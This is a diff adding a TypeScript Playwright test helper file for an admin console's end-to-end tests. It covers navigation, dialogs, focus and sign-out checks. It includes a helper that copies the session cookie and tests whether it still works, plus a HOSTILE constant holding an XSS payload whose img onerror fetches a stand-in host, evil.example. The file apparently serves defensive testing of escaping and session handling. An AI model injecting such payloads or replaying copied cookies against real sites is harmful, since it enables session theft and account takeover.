@@ -1,0 +1,49 @@
+/** What an admin does in the pages of the console, by the names that everybody sees or hears. */
+import type { Locator } from 'playwright-core';
+import type { Person } from './people.ts';
+import { eventually } from './poll.ts';
+
+const LIMIT_MS = 20_000;
+
+export const card = ({ page }: Person, title: string | RegExp): Locator => page.getByRole('article', { name: title });
+export const button = (inside: Pick<Locator, 'getByRole'>, name: string): Locator => inside.getByRole('button', { name, exact: true });
+export const dialog = ({ page }: Person, name: string): Locator => page.getByRole('dialog', { name });
+export const gone = (what: Locator): Promise<void> => what.waitFor({ state: 'detached' });
+export const titled = ({ page }: Person, title: string): Promise<true> => eventually(async () => ((await page.title()) === title ? true : undefined), LIMIT_MS, `the title ${title}`);
+
+/** By a click in the frame of every page: nothing is loaded anew. */
+export const goTo = async ({ page }: Person, name: string): Promise<void> => {
+  await page.getByRole('navigation', { name: 'Pages' }).getByRole('link', { name }).click();
+  await page.getByRole('heading', { level: 1, name }).waitFor();
+};
+
+/** By a link of the page, whatever heading is there then. */
+export const follow = async ({ page }: Person, link: string, heading: string): Promise<void> => {
+  await page.getByRole('link', { name: link }).click();
+  await page.getByRole('heading', { level: 1, name: heading }).waitFor();
+};
+
+export const openSecret = async (person: Person, path: string): Promise<void> => {
+  await goTo(person, 'Secrets');
+  await follow(person, path, path);
+};
+
+/** Clicks, and says yes to what is asked then. */
+export const confirmed = async (person: Person, opens: Locator, title: string, action: string): Promise<void> => {
+  await opens.click();
+  await button(dialog(person, title), action).click();
+  await gone(dialog(person, title));
+};
+
+export const isSignedOut = ({ page }: Person): Promise<void> => page.getByRole('heading', { name: 'Sign in' }).waitFor();
+
+export const hasFocus = (what: Locator): Promise<boolean> => what.evaluate((element) => (element as unknown as { readonly matches: (selector: string) => boolean }).matches(':focus'));
+export const takesFocus = (what: Locator, name: string): Promise<true> => eventually(async () => ((await hasFocus(what)) ? true : undefined), LIMIT_MS, `${name} to have the focus`);
+
+/** What a copy of the session's cookie would be. */
+export const cookieOf = async ({ context }: Person): Promise<string> => (await context.cookies()).map(({ name, value }) => `${name}=${value}`).join('; ');
+/** What such a copy is worth: the status of asking with it whose session it is. */
+export const worth = async (url: string, cookie: string): Promise<number> => (await fetch(`${url}/session`, { headers: { cookie } })).status;
+
+/** Words of somebody who wants more of the page than to be read. */
+export const HOSTILE = `<img src=x onerror="fetch('//evil.example/')"><script>document.title='owned'</script> ${'wide'.repeat(40)} ${'שלום '.repeat(10)}`;
